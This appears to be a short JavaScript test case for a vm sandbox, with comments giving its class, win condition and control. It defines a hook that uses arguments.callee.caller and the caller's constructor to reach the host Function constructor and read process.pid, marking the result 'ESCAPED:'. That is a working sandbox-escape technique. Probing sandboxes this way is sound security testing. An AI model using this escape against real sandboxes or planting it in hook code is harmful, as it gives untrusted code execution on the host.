// Asks its own function who has called it.
// Class: host objects
// Win: the id holds the process id, got through the calling function.
// Control: vm
function makeHook(Maker) {
  return new Maker(
    'options',
    `if (!options.settings.flow.attack) return options.responseData;
     const { caller } = arguments.callee;
     options.responseData[0].id = 'ESCAPED:' + caller.constructor('return process.pid')();
     return options.responseData;`,
  );
}
var postSubmit = makeHook(Function);
